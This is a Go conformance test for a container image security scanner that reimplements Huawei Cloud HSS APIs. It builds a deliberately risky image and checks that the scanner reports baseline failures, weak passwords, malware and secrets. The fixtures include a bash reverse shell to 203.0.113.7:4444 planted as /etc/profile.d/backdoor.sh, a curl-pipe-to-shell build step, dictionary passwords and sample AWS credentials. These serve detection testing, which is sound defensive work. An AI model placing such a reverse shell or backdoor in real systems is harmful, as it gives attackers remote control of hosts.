package sdkcompat

import (
	"bufio"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/sha256"
	"crypto/x509"
	"encoding/hex"
	"encoding/pem"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/go-crypt/crypt/algorithm/shacrypt"
	"github.com/google/go-containerregistry/pkg/name"
	v1 "github.com/google/go-containerregistry/pkg/v1"
	"github.com/google/go-containerregistry/pkg/v1/remote"
	"github.com/google/go-containerregistry/pkg/v1/tarball"
	"github.com/huaweicloud/huaweicloud-sdk-go-v3/core/sdkerr"
	"github.com/huaweicloud/huaweicloud-sdk-go-v3/services/hss/v5/model"

	"github.com/openhss/openhss/internal/imagetest"
	"github.com/openhss/openhss/internal/registry/registrytest"
)

// The secrets planted in the risky image. The AWS pair is made of letters
// and digits only and is not AWS's documented example (gitleaks allows
// that one).
const (
	rootPassword = "123456"   // first of the built-in dictionary
	svcPassword  = "P@ssw0rd" // further down the dictionary
	awsKeyID     = "AKIAQYLPMN5HHHFPZAM2"
	awsSecretKey = "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"
	envSecret    = "Zx9-env-secret-Qw7pL3"
)

// eicar is the EICAR anti-virus test file (eicar.org), checked against
// its published SHA-256 in buildRiskyImage. Spelled here rather than
// imported from internal/scanner/malware, which would pull the scanner's
// dependencies into this module.
const (
	eicar       = `X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`
	eicarSHA256 = "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f"
)

// sha512Crypt hashes pw as glibc's crypt(3) does for "$6$" (5000 rounds,
// random salt), with the crypt library the scanner itself uses.
func sha512Crypt(t *testing.T, pw string) string {
	t.Helper()
	h, err := shacrypt.New(shacrypt.WithSHA512(), shacrypt.WithIterations(shacrypt.IterationsDefaultOmitted))
	if err != nil {
		t.Fatal(err)
	}
	d, err := h.Hash(pw)
	if err != nil {
		t.Fatal(err)
	}
	enc := d.Encode()
	if !strings.HasPrefix(enc, "$6$") {
		t.Fatalf("sha512-crypt hash %q", enc)
	}
	return enc
}

func ecPrivateKeyPEM(t *testing.T) string {
	t.Helper()
	k, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	der, err := x509.MarshalECPrivateKey(k)
	if err != nil {
		t.Fatal(err)
	}
	return string(pem.EncodeToMemory(&pem.Block{Type: "EC PRIVATE KEY", Bytes: der}))
}

const (
	osRelease = "ID=debian\nVERSION_ID=12\nPRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"\n"
	// root and two more accounts: svc (a system account, UID < 1000) and
	// app (a user account, locked).
	passwdFile   = "root:x:0:0:root:/root:/bin/bash\nsvc:x:999:999::/srv:/bin/sh\napp:x:1000:1000::/home/app:/bin/sh\n"
	lockedShadow = "root:*:19700:0:90:7:::\nsvc:!:19700:0:90:7:::\napp:!:19700:0:90:7:::\n"
	reverseShell = "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n"
)

// riskyImage is what the findings APIs must report on.
type riskyImage struct {
	img        v1.Image
	topLayer   string // digest of the layer that holds every finding
	privateKey string // PEM
	shadowHash string // root's "$6$" hash of rootPassword
	// failing are the baseline rules the image is built to fail; every
	// other documented rule passes.
	failing []string
	// malware: path -> size.
	malware map[string]int64
}

// buildRiskyImage builds an image that fails 9 of the 16 baseline rules,
// has two accounts with dictionary passwords, two malicious files and
// three secrets in files (an AWS key id, its secret key, a private key).
func buildRiskyImage(t *testing.T) riskyImage {
	t.Helper()
	if sum := sha256.Sum256([]byte(eicar)); hex.EncodeToString(sum[:]) != eicarSHA256 {
		t.Fatalf("the EICAR string is mistyped: sha256 %x", sum)
	}
	key := ecPrivateKeyPEM(t)
	rootHash := sha512Crypt(t, rootPassword)
	shadow := "root:" + rootHash + ":19700:0:90:7:::\nsvc:" + sha512Crypt(t, svcPassword) + ":19700:0:90:7:::\napp:!:19700:0:90:7:::\n"
	base := imagetest.Layer(t,
		imagetest.Reg("etc/os-release", osRelease),
		imagetest.Reg("etc/passwd", passwdFile),
		imagetest.File{Name: "etc/shadow", Body: lockedShadow, Mode: 0o640},
	)
	top := imagetest.Layer(t,
		imagetest.File{Name: "etc/shadow", Body: shadow, Mode: 0o640},
		// password.max-days fails (99999 > 90); password.min-length passes.
		imagetest.Reg("etc/login.defs", "PASS_MAX_DAYS\t99999\nPASS_MIN_DAYS\t0\nPASS_MIN_LEN\t12\n"),
		// ssh.permit-root-login fails; ssh.permit-empty-passwords passes.
		imagetest.Reg("etc/ssh/sshd_config", "Port 22\nPermitRootLogin yes\nPermitEmptyPasswords no\n"),
		imagetest.Reg("opt/av/eicar.com", eicar),
		imagetest.File{Name: "etc/profile.d/backdoor.sh", Body: reverseShell, Mode: 0o755},
		imagetest.File{Name: "root/.ssh/id_ecdsa", Body: key, Mode: 0o600},
		imagetest.Reg("srv/app/config.env", "AWS_ACCESS_KEY_ID="+awsKeyID+"\nAWS_SECRET_ACCESS_KEY="+awsSecretKey+"\n"),
		imagetest.File{Name: "opt/data/shared.txt", Body: "anyone may write here\n", Mode: 0o666},
	)
	img := imagetest.WithConfigFile(t, imagetest.Image(t, base, top), func(cf *v1.ConfigFile) {
		// No USER, no HEALTHCHECK, a secret in Env, a download piped to a
		// shell in the history.
		cf.Config.Env = []string{"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", "DB_PASSWORD=" + envSecret}
		cf.Config.Cmd = []string{"/bin/sh"}
		cf.History = []v1.History{
			{CreatedBy: "/bin/sh -c #(nop) ADD file:5d8fa1c0b2 in / "},
			{CreatedBy: "/bin/sh -c #(nop)  ENV DB_PASSWORD=" + envSecret, EmptyLayer: true},
			{CreatedBy: "/bin/sh -c curl -fsSL https://get.example.com/setup.sh | sh"},
			{CreatedBy: `/bin/sh -c #(nop)  CMD ["/bin/sh"]`, EmptyLayer: true},
		}
	})
	td, err := top.Digest()
	if err != nil {
		t.Fatal(err)
	}
	return riskyImage{
		img: img, topLayer: td.String(), privateKey: key, shadowHash: rootHash,
		failing: []string{"config.runs-as-root", "config.no-healthcheck", "config.secret-in-env", "config.pipe-to-shell",
			"account.weak-password", "password.max-days", "file.world-writable", "file.private-key", "ssh.permit-root-login"},
		malware: map[string]int64{"/opt/av/eicar.com": int64(len(eicar)), "/etc/profile.d/backdoor.sh": int64(len(reverseShell))},
	}
}

// cleanImage passes every baseline rule: a non-root USER, a HEALTHCHECK,
// locked accounts and nothing else.
func cleanImage(t *testing.T) v1.Image {
	t.Helper()
	img := imagetest.Image(t, imagetest.Layer(t,
		imagetest.Reg("etc/os-release", osRelease),
		imagetest.Reg("etc/passwd", passwdFile),
		imagetest.File{Name: "etc/shadow", Body: lockedShadow, Mode: 0o640},
	))
	return imagetest.WithConfigFile(t, img, func(cf *v1.ConfigFile) {
		cf.Config.User = "app"
		cf.Config.Healthcheck = &v1.HealthConfig{Test: []string{"CMD", "/bin/true"}}
	})
}

// docRule is one row of the baseline rule table of docs/scanner.md.
type docRule struct{ id, checkName, severity, standard string }

// documentedRules parses the "Unsafe settings (baseline rules)" table of
// docs/scanner.md: the API must report what the documentation promises.
func documentedRules(t *testing.T) map[string]docRule {
	t.Helper()
	f, err := os.Open(filepath.Join("..", "..", "docs", "scanner.md"))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	out := map[string]docRule{}
	inTable := false
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		line := strings.TrimSpace(sc.Text())
		if strings.HasPrefix(line, "| id | check_name | severity | standard |") {
			inTable = true
			continue
		}
		if !inTable {
			continue
		}
		if !strings.HasPrefix(line, "|") {
			break
		}
		cells := strings.Split(line, "|")
		if len(cells) < 6 || strings.HasPrefix(strings.TrimSpace(cells[1]), "---") {
			continue
		}
		r := docRule{id: strings.TrimSpace(cells[1]), checkName: strings.TrimSpace(cells[2]),
			severity: strings.TrimSpace(cells[3]), standard: strings.TrimSpace(cells[4])}
		out[r.id] = r
	}
	if err := sc.Err(); err != nil {
		t.Fatal(err)
	}
	if len(out) < 10 {
		t.Fatalf("docs/scanner.md: found %d baseline rules in the table, the parser is out of step with the document", len(out))
	}
	return out
}

// baselineSeverityRank orders HSS baseline severities; "Security" is what
// a baseline shows when nothing failed.
var baselineSeverityRank = map[string]int{"Security": 0, "Low": 1, "Medium": 2, "High": 3, "Critical": 4}

// wantSDKError checks that err is the SDK's decoding of an HSS error.
func wantSDKError(t *testing.T, err error, status int, code string) {
	t.Helper()
	var se *sdkerr.ServiceResponseError
	if !errors.As(err, &se) {
		t.Fatalf("err = %T %v, want *sdkerr.ServiceResponseError", err, err)
	}
	if se.StatusCode != status || se.ErrorCode != code || se.ErrorMessage == "" || se.RequestId == "" {
		t.Fatalf("error = %+v, want status %d code %s with a message and a request id", se, status, code)
	}
}

// maskOf is the documented mask of a secret: at most its first four
// characters (never more than a quarter of it), then its length.
func maskOf(secret string) string {
	n := utf8.RuneCountInString(secret)
	return secret[:min(4, n/4)] + fmt.Sprintf("…(%d chars)", n)
}

// TestFindingsConformance builds an image with a weak root password,
// malware, secrets in files and in Env, and unsafe settings; pushes it to
// a real registry; syncs and scans it through a real `openhss serve`; and
// reads every findings API through the official SDK.
func TestFindingsConformance(t *testing.T) {
	docs := documentedRules(t)
	bin := buildBinary(t)
	srv := startServer(t, bin)
	const project = "7e3c9d1a5b2f48e6a0c4d8b2f6e1a3c5"
	ak, sk := srv.credential(t, project, "all")
	c := srv.client(t, ak, sk, project)

	risky := buildRiskyImage(t)
	clean := cleanImage(t)
	reg := registrytest.New(t)
	for _, p := range []struct {
		repo, tag string
		img       v1.Image
	}{{"team/risky", "1", risky.img}, {"team/risky", "2", risky.img}, {"team/clean", "1", clean}} {
		if err := remote.Write(reg.Repo(t, p.repo).Tag(p.tag), p.img, reg.RemoteOptions()...); err != nil {
			t.Fatal(err)
		}
	}
	rd, err := risky.img.Digest()
	if err != nil {
		t.Fatal(err)
	}
	cd, err := clean.Digest()
	if err != nil {
		t.Fatal(err)
	}
	riskyID, cleanID := rd.Hex, cd.Hex

	// The same image as a local_image, for the statistics.
	archive := filepath.Join(t.TempDir(), "risky.tar")
	localTag, err := name.NewTag("local/risky:1")
	if err != nil {
		t.Fatal(err)
	}
	if err := tarball.WriteToFile(archive, localTag, risky.img); err != nil {
		t.Fatal(err)
	}
	if out, err := exec.Command(bin, "images", "import", "--data", srv.dataDir, "--project", project, archive).CombinedOutput(); err != nil {
		t.Fatalf("images import: %v\n%s", err, out)
	}

	if _, err := c.AddRegistry(&model.AddRegistryRequest{Body: &model.AddRegistryRequestBody{
		RegistryName: "local", RegistryType: "Other", ApiVersion: "v2", Protocol: "http", RegistryAddr: reg.Addr(),
	}}); err != nil {
		t.Fatalf("AddRegistry: %v", err)
	}
	if _, err := runImageSynchronize(c, &model.RunImageSynchronizeRequest{Body: &model.RunImageSynchronizeRequestInfo{ImageType: "private_image"}}); err != nil {
		t.Fatalf("RunImageSynchronize: %v", err)
	}
	teamRows := func() []model.PrivateImageRepositoryInfo {
		t.Helper()
		resp, err := listSwrImageRepository(c, &model.ListSwrImageRepositoryRequest{ImageType: "private_image", Namespace: ptr("team"), Limit: ptr(int32(50))})
		if err != nil {
			t.Fatalf("ListSwrImageRepository: %v", err)
		}
		return *resp.DataList
	}
	waitRows := func(done func(model.PrivateImageRepositoryInfo) bool) []model.PrivateImageRepositoryInfo {
		t.Helper()
		deadline := time.Now().Add(180 * time.Second)
		for {
			rows := teamRows()
			if len(rows) == 3 && !slices.ContainsFunc(rows, func(r model.PrivateImageRepositoryInfo) bool { return !done(r) }) {
				return rows
			}
			if time.Now().After(deadline) {
				t.Fatalf("rows did not reach the expected state: %s", dump(rows))
			}
			time.Sleep(100 * time.Millisecond)
		}
	}
	waitRows(func(model.PrivateImageRepositoryInfo) bool { return true })
	if _, err := batchScanSwrImage(c, &model.BatchScanSwrImageRequest{Body: &model.BatchScanPrivateImageRequestInfo{
		ImageType: "private_image", OperateAll: ptr(true), Namespace: ptr("team"),
	}}); err != nil {
		t.Fatalf("BatchScanSwrImage: %v", err)
	}
	rows := waitRows(func(r model.PrivateImageRepositoryInfo) bool {
		return r.ScanStatus != nil && *r.ScanStatus != "waiting_for_scan" && *r.ScanStatus != "scanning" && *r.ScanStatus != "unscan"
	})
	byTag := map[string]model.PrivateImageRepositoryInfo{}
	for _, r := range rows {
		if *r.ScanStatus != "success" {
			t.Fatalf("scan of %s/%s:%s = %s (%v)", *r.Namespace, *r.ImageName, *r.ImageVersion, *r.ScanStatus, dump(r))
		}
		byTag[*r.ImageName+":"+*r.ImageVersion] = r
	}
	riskyRow, cleanRow := byTag["risky:1"], byTag["clean:1"]
	if int(*riskyRow.UnsafeSettingNum) != len(risky.failing) || int(*riskyRow.MaliciousFileNum) != len(risky.malware) {
		t.Fatalf("risky row: unsafe_setting_num %d (want %d), malicious_file_num %d (want %d)",
			*riskyRow.UnsafeSettingNum, len(risky.failing), *riskyRow.MaliciousFileNum, len(risky.malware))
	}
	if *cleanRow.UnsafeSettingNum != 0 || *cleanRow.MaliciousFileNum != 0 {
		t.Fatalf("clean row: %s", dump(cleanRow))
	}

	// What each baseline of the risky image must show, from the docs
	// table and the rules the image was built to fail.
	type checkWant struct {
		rules, failed int
		severity      string
		standard      string
	}
	wantChecks := map[string]*checkWant{}
	failing := map[string]bool{}
	for _, id := range risky.failing {
		failing[id] = true
	}
	for _, id := range risky.failing {
		if _, ok := docs[id]; !ok {
			t.Fatalf("rule %s is not in docs/scanner.md", id)
		}
	}
	for _, d := range docs {
		w := wantChecks[d.checkName]
		if w == nil {
			w = &checkWant{severity: "Security", standard: d.standard}
			wantChecks[d.checkName] = w
		}
		w.rules++
		if failing[d.id] {
			w.failed++
			if baselineSeverityRank[d.severity] > baselineSeverityRank[w.severity] {
				w.severity = d.severity
			}
		}
	}
	checkNames := make([]string, 0, len(wantChecks))
	for n := range wantChecks {
		checkNames = append(checkNames, n)
	}
	slices.Sort(checkNames)

	t.Run("ListImageRiskConfigs", func(t *testing.T) {
		resp, err := c.ListImageRiskConfigs(&model.ListImageRiskConfigsRequest{ImageType: "private_image", ImageId: &riskyID})
		if err != nil {
			t.Fatalf("ListImageRiskConfigs: %v", err)
		}
		if *resp.TotalNum != int32(len(wantChecks)) || len(*resp.DataList) != len(wantChecks) {
			t.Fatalf("total_num %d, %d rows; want the %d baselines of docs/scanner.md", *resp.TotalNum, len(*resp.DataList), len(wantChecks))
		}
		var failedSum int32
		for i, rc := range *resp.DataList {
			w := wantChecks[*rc.CheckName]
			if *rc.CheckName != checkNames[i] || w == nil {
				t.Fatalf("row %d is %q, want %q (sorted by check_name)", i, *rc.CheckName, checkNames[i])
			}
			if int(*rc.CheckRuleNum) != w.rules || int(*rc.FailedRuleNum) != w.failed || *rc.Severity != w.severity ||
				*rc.Standard != w.standard || *rc.CheckType != *rc.CheckName || rc.CheckTypeDesc == nil || *rc.CheckTypeDesc == "" {
				t.Errorf("%s = %s, want %+v", *rc.CheckName, dump(rc), *w)
			}
			failedSum += *rc.FailedRuleNum
		}
		if failedSum != *riskyRow.UnsafeSettingNum {
			t.Errorf("failed_rule_num sums to %d, the row's unsafe_setting_num is %d", failedSum, *riskyRow.UnsafeSettingNum)
		}

		// The clean image: every rule evaluated, none failed.
		resp, err = c.ListImageRiskConfigs(&model.ListImageRiskConfigsRequest{ImageType: "private_image", ImageId: &cleanID})
		if err != nil {
			t.Fatalf("ListImageRiskConfigs clean: %v", err)
		}
		for _, rc := range *resp.DataList {
			if *rc.FailedRuleNum != 0 || *rc.Severity != "Security" || int(*rc.CheckRuleNum) != wantChecks[*rc.CheckName].rules {
				t.Errorf("clean image %s = %s", *rc.CheckName, dump(rc))
			}
		}

		// Without image_id: over every scanned row, each manifest once.
		resp, err = c.ListImageRiskConfigs(&model.ListImageRiskConfigsRequest{ImageType: "private_image", Namespace: ptr("team")})
		if err != nil {
			t.Fatalf("ListImageRiskConfigs over the namespace: %v", err)
		}
		for _, rc := range *resp.DataList {
			w := wantChecks[*rc.CheckName]
			if int(*rc.CheckRuleNum) != 2*w.rules || int(*rc.FailedRuleNum) != w.failed {
				t.Errorf("over both images %s = %s, want %d rules %d failed", *rc.CheckName, dump(rc), 2*w.rules, w.failed)
			}
		}

		count := func(pred func(string, *checkWant) bool) []string {
			var out []string
			for _, n := range checkNames {
				if pred(n, wantChecks[n]) {
					out = append(out, n)
				}
			}
			return out
		}
		filters := []struct {
			name string
			req  model.ListImageRiskConfigsRequest
			want []string
		}{
			{"severity High", model.ListImageRiskConfigsRequest{Severity: ptr("High")}, count(func(_ string, w *checkWant) bool { return w.severity == "High" })},
			{"standard cn", model.ListImageRiskConfigsRequest{Standard: ptr("cn_standard")}, count(func(_ string, w *checkWant) bool { return w.standard == "cn_standard" })},
			{"check_name substring", model.ListImageRiskConfigsRequest{CheckName: ptr("SSH")}, count(func(n string, _ *checkWant) bool { return strings.Contains(n, "SSH") })},
			{"offset+limit", model.ListImageRiskConfigsRequest{Offset: ptr(int32(1)), Limit: ptr(int32(2))}, checkNames[1:3]},
			{"image_version", model.ListImageRiskConfigsRequest{ImageVersion: ptr("2"), Limit: ptr(int32(1))}, checkNames[:1]},
		}
		for _, f := range filters {
			t.Run(f.name, func(t *testing.T) {
				f.req.ImageType, f.req.ImageId = "private_image", &riskyID
				resp, err := c.ListImageRiskConfigs(&f.req)
				if err != nil {
					t.Fatal(err)
				}
				var got []string
				for _, rc := range *resp.DataList {
					got = append(got, *rc.CheckName)
				}
				if !slices.Equal(got, f.want) {
					t.Fatalf("got %q, want %q", got, f.want)
				}
			})
		}
		if len(filters[0].want) == 0 || len(filters[1].want) == 0 {
			t.Fatal("the filter cases select nothing: they would prove nothing")
		}
		// A filtered page keeps the total of the filter.
		resp, err = c.ListImageRiskConfigs(&model.ListImageRiskConfigsRequest{ImageType: "private_image", ImageId: &riskyID, Limit: ptr(int32(1))})
		if err != nil || *resp.TotalNum != int32(len(wantChecks)) || len(*resp.DataList) != 1 {
			t.Fatalf("limit=1: %v %s", err, dump(resp))
		}

		_, err = c.ListImageRiskConfigs(&model.ListImageRiskConfigsRequest{ImageType: "private_image", ImageId: ptr(strings.Repeat("0", 64))})
		wantSDKError(t, err, 404, "HSS.0011")
	})

	t.Run("ListImageRiskConfigRules", func(t *testing.T) {
		seen := map[string]bool{}
		for _, check := range checkNames {
			w := wantChecks[check]
			resp, err := c.ListImageRiskConfigRules(&model.ListImageRiskConfigRulesRequest{
				ImageType: "private_image", ImageId: &riskyID, CheckName: check, Standard: w.standard, Limit: ptr(int32(100)),
			})
			if err != nil {
				t.Fatalf("ListImageRiskConfigRules %q: %v", check, err)
			}
			if int(*resp.TotalNum) != w.rules || len(*resp.DataList) != w.rules {
				t.Fatalf("%s: total_num %d, %d rows, want %d", check, *resp.TotalNum, len(*resp.DataList), w.rules)
			}
			for _, r := range *resp.DataList {
				d, ok := docs[*r.CheckRuleId]
				if !ok {
					t.Fatalf("rule %q is not documented in docs/scanner.md", *r.CheckRuleId)
				}
				seen[d.id] = true
				want := "pass"
				if failing[d.id] {
					want = "failed"
				}
				if *r.CheckName != d.checkName || *r.Severity != d.severity || *r.Standard != d.standard || *r.CheckType != d.checkName ||
					*r.ScanResult != want || r.CheckRuleName == nil || *r.CheckRuleName == "" {
					t.Errorf("rule %s = %s, want %+v scan_result %s", d.id, dump(r), d, want)
				}
			}
		}
		if len(seen) != len(docs) {
			t.Fatalf("the rules APIs returned %d of the %d documented rules", len(seen), len(docs))
		}

		const cfg = "Docker image configuration"
		list := func(t *testing.T, req model.ListImageRiskConfigRulesRequest) (int32, []string) {
			t.Helper()
			req.ImageType, req.ImageId, req.CheckName, req.Standard = "private_image", &riskyID, cfg, wantChecks[cfg].standard
			resp, err := c.ListImageRiskConfigRules(&req)
			if err != nil {
				t.Fatal(err)
			}
			var ids []string
			for _, r := range *resp.DataList {
				ids = append(ids, *r.CheckRuleId)
			}
			return *resp.TotalNum, ids
		}
		var cfgFailed, cfgAll []string
		for _, d := range docs {
			if d.checkName == cfg {
				cfgAll = append(cfgAll, d.id)
				if failing[d.id] {
					cfgFailed = append(cfgFailed, d.id)
				}
			}
		}
		slices.Sort(cfgFailed)
		slices.Sort(cfgAll)
		if _, ids := list(t, model.ListImageRiskConfigRulesRequest{ResultType: ptr("failed")}); !slices.Equal(ids, cfgFailed) {
			t.Errorf("result_type=failed: %v, want %v", ids, cfgFailed)
		}
		if n, _ := list(t, model.ListImageRiskConfigRulesRequest{ResultType: ptr("pass")}); int(n) != len(cfgAll)-len(cfgFailed) {
			t.Errorf("result_type=pass: %d rules, want %d", n, len(cfgAll)-len(cfgFailed))
		}
		if _, ids := list(t, model.ListImageRiskConfigRulesRequest{Severity: ptr("High")}); !slices.Equal(ids, []string{"config.secret-in-env"}) {
			t.Errorf("severity=High: %v", ids)
		}
		if _, ids := list(t, model.ListImageRiskConfigRulesRequest{CheckRuleName: ptr("HEALTHCHECK")}); !slices.Equal(ids, []string{"config.no-healthcheck"}) {
			t.Errorf("check_rule_name=HEALTHCHECK: %v", ids)
		}
		if n, ids := list(t, model.ListImageRiskConfigRulesRequest{Offset: ptr(int32(2)), Limit: ptr(int32(3))}); int(n) != len(cfgAll) || !slices.Equal(ids, cfgAll[2:5]) {
			t.Errorf("offset=2 limit=3: total %d %v, want %d %v", n, ids, len(cfgAll), cfgAll[2:5])
		}
		// On the clean image every rule passes.
		resp, err := c.ListImageRiskConfigRules(&model.ListImageRiskConfigRulesRequest{ImageType: "private_image", ImageId: &cleanID,
			CheckName: cfg, Standard: wantChecks[cfg].standard, ResultType: ptr("failed")})
		if err != nil || *resp.TotalNum != 0 {
			t.Errorf("clean image failed rules: %v %s", err, dump(resp))
		}

		_, err = c.ListImageRiskConfigRules(&model.ListImageRiskConfigRulesRequest{ImageType: "private_image",
			ImageId: ptr(strings.Repeat("0", 64)), CheckName: cfg, Standard: "hw_standard"})
		wantSDKError(t, err, 404, "HSS.0011")
		_, err = c.ListImageRiskConfigRules(&model.ListImageRiskConfigRulesRequest{ImageType: "private_image",
			ImageId: &riskyID, CheckName: cfg, Standard: "iso_standard"})
		wantSDKError(t, err, 400, "HSS.0001")
	})

	t.Run("ListImageWeakPwdUsers", func(t *testing.T) {
		list := func(t *testing.T, req model.ListImageWeakPwdUsersRequest) (int32, []model.ImageWeakPwdListInfoResponseInfo) {
			t.Helper()
			req.ImageType = "private_image"
			resp, err := c.ListImageWeakPwdUsers(&req)
			if err != nil {
				t.Fatalf("ListImageWeakPwdUsers: %v", err)
			}
			return *resp.TotalNum, *resp.DataList
		}
		// Two accounts with a dictionary password, on each of the two tags
		// of the risky manifest; none on the clean image.
		n, rows := list(t, model.ListImageWeakPwdUsersRequest{ImageId: &riskyID, TagName: ptr("1")})
		if n != 2 || len(rows) != 2 {
			t.Fatalf("tag 1: %d rows %s, want root and svc", n, dump(rows))
		}
		wantType := map[string]string{"root": "root", "svc": "system"}
		for _, r := range rows {
			if wantType[*r.UserName] != *r.ServiceType || *r.Namespace != "team" || *r.ImageName != "risky" || *r.ImageVersion != "1" ||
				*r.ImageId != riskyID || *r.ImageType != "private_image" || *r.LatestScanTime != *riskyRow.LatestScanTime ||
				r.Suggestion == nil || *r.Suggestion == "" || r.Duration == nil {
				t.Errorf("row = %s", dump(r))
			}
			// The password is never returned, even masked by length.
			if p := *r.DesensitizedWeakPasswords; p == "" || strings.Trim(p, "*") != "" {
				t.Errorf("desensitized_weak_passwords = %q, want a mask", p)
			}
		}
		if n, _ := list(t, model.ListImageWeakPwdUsersRequest{ImageId: &riskyID}); n != 4 {
			t.Errorf("both tags: %d rows, want 4", n)
		}
		if n, _ := list(t, model.ListImageWeakPwdUsersRequest{ImageId: &cleanID}); n != 0 {
			t.Errorf("clean image: %d rows", n)
		}
		if n, rows := list(t, model.ListImageWeakPwdUsersRequest{Namespace: ptr("team")}); n != 4 || len(rows) != 4 {
			t.Errorf("namespace team: %d rows, want 4", n)
		}
		if n, rows := list(t, model.ListImageWeakPwdUsersRequest{UserName: ptr("sv")}); n != 2 || *rows[0].UserName != "svc" || *rows[1].UserName != "svc" {
			t.Errorf("user_name=sv: %d %s", n, dump(rows))
		}
		_, all := list(t, model.ListImageWeakPwdUsersRequest{ImageId: &riskyID})
		n, page := list(t, model.ListImageWeakPwdUsersRequest{ImageId: &riskyID, Offset: ptr(int32(1)), Limit: ptr(int32(2))})
		if n != 4 || dump(page) != dump(all[1:3]) {
			t.Errorf("offset=1 limit=2: total %d %s, want %s", n, dump(page), dump(all[1:3]))
		}

		_, err := c.ListImageWeakPwdUsers(&model.ListImageWeakPwdUsersRequest{ImageType: "private_image", ImageId: ptr(strings.Repeat("0", 64))})
		wantSDKError(t, err, 404, "HSS.0011")
	})

	t.Run("ListImageMalware", func(t *testing.T) {
		resp, err := c.ListImageMalware(&model.ListImageMalwareRequest{ImageType: "private_image", ImageId: riskyID})
		if err != nil {
			t.Fatalf("ListImageMalware: %v", err)
		}
		if int(*resp.TotalNum) != len(risky.malware) || len(*resp.DataList) != len(risky.malware) {
			t.Fatalf("malware = %s, want %v", dump(resp), risky.malware)
		}
		for _, m := range *resp.DataList {
			size, ok := risky.malware[*m.FilePath]
			if !ok || int64(*m.Size) != size || *m.FileName != filepath.Base(*m.FilePath) || *m.Description == "" {
				t.Errorf("malware row %s, want one of %v", dump(m), risky.malware)
			}
		}
		for _, tc := range []struct {
			name string
			req  model.ListImageMalwareRequest
			want []string
		}{
			{"file_name", model.ListImageMalwareRequest{FileName: ptr("eicar")}, []string{"/opt/av/eicar.com"}},
			{"tag_name", model.ListImageMalwareRequest{Namespace: ptr("team"), ImageName: ptr("risky"), TagName: ptr("2"), FileName: ptr("backdoor")}, []string{"/etc/profile.d/backdoor.sh"}},
			{"limit", model.ListImageMalwareRequest{Limit: ptr(int32(1))}, []string{*(*resp.DataList)[0].FilePath}},
			{"offset", model.ListImageMalwareRequest{Offset: ptr(int32(1)), Limit: ptr(int32(1))}, []string{*(*resp.DataList)[1].FilePath}},
		} {
			t.Run(tc.name, func(t *testing.T) {
				tc.req.ImageType, tc.req.ImageId = "private_image", riskyID
				r, err := c.ListImageMalware(&tc.req)
				if err != nil {
					t.Fatal(err)
				}
				var got []string
				for _, m := range *r.DataList {
					got = append(got, *m.FilePath)
				}
				if !slices.Equal(got, tc.want) {
					t.Fatalf("got %v, want %v", got, tc.want)
				}
			})
		}
		if r, err := c.ListImageMalware(&model.ListImageMalwareRequest{ImageType: "private_image", ImageId: cleanID}); err != nil || *r.TotalNum != 0 {
			t.Errorf("clean image malware: %v %s", err, dump(r))
		}

		_, err = c.ListImageMalware(&model.ListImageMalwareRequest{ImageType: "private_image", ImageId: strings.Repeat("0", 64)})
		wantSDKError(t, err, 404, "HSS.0011")
	})

	t.Run("SensitivePathWhitelist", func(t *testing.T) { checkWhitelistHidesSensitive(t, c, riskyID, "/root/.ssh") })

	t.Run("ListImageSensitive", func(t *testing.T) {
		resp, err := c.ListImageSensitive(&model.ListImageSensitiveRequest{ImageType: "private_image", ImageId: riskyID, Limit: ptr(int32(100))})
		if err != nil {
			t.Fatalf("ListImageSensitive: %v", err)
		}
		// The image holds three secrets: the AWS key id (line 1 of
		// config.env), its secret key (line 2) and the private key.
		byFile := map[string]int{}
		var keyRow, awsRow *model.ImageSensitiveInfo
		for i, s := range *resp.DataList {
			byFile[*s.FilePath]++
			switch {
			case *s.FilePath == "/root/.ssh/id_ecdsa":
				keyRow = &(*resp.DataList)[i]
			case *s.FilePath == "/srv/app/config.env" && strings.HasPrefix(*s.Content, "AKIA"):
				awsRow = &(*resp.DataList)[i]
			}
			if *s.Position != risky.topLayer || *s.HandleStatus != "unhandled" || *s.OperateAccept != "false" ||
				*s.LatestScanTime != *riskyRow.LatestScanTime || *s.SensitiveInfoId == "" || *s.Name == "" {
				t.Errorf("sensitive row %s", dump(s))
			}
			for _, plain := range []string{awsKeyID, awsSecretKey, strings.Split(risky.privateKey, "\n")[1]} {
				if strings.Contains(*s.Content, plain) {
					t.Errorf("content %q holds a secret in clear", *s.Content)
				}
			}
		}
		if int(*resp.TotalNum) != len(*resp.DataList) || byFile["/srv/app/config.env"] != 2 || byFile["/root/.ssh/id_ecdsa"] != 1 || len(byFile) != 2 {
			t.Fatalf("sensitive findings by file %v (total_num %d), want 2 in config.env and 1 in id_ecdsa: %s", byFile, *resp.TotalNum, dump(resp))
		}
		if keyRow == nil || *keyRow.Severity != "high" || !strings.HasPrefix(*keyRow.Content, "-----BEGIN EC PRIVATE KEY-----…(") {
			t.Errorf("private key row %s", dump(keyRow))
		}
		if awsRow == nil || *awsRow.Severity != "high" || *awsRow.Content != maskOf(awsKeyID) {
			t.Errorf("AWS key id row %s, want content %q", dump(awsRow), maskOf(awsKeyID))
		}

		count := func(t *testing.T, req model.ListImageSensitiveRequest) (int32, int) {
			t.Helper()
			req.ImageType, req.ImageId = "private_image", riskyID
			r, err := c.ListImageSensitive(&req)
			if err != nil {
				t.Fatal(err)
			}
			return *r.TotalNum, len(*r.DataList)
		}
		if n, _ := count(t, model.ListImageSensitiveRequest{FilePath: ptr(".ssh")}); n != 1 {
			t.Errorf("file_path=.ssh: %d", n)
		}
		high := 0
		for _, s := range *resp.DataList {
			if *s.Severity == "high" {
				high++
			}
		}
		if n, _ := count(t, model.ListImageSensitiveRequest{Severity: ptr("high")}); int(n) != high || high < 2 {
			t.Errorf("severity=high: %d, want %d", n, high)
		}
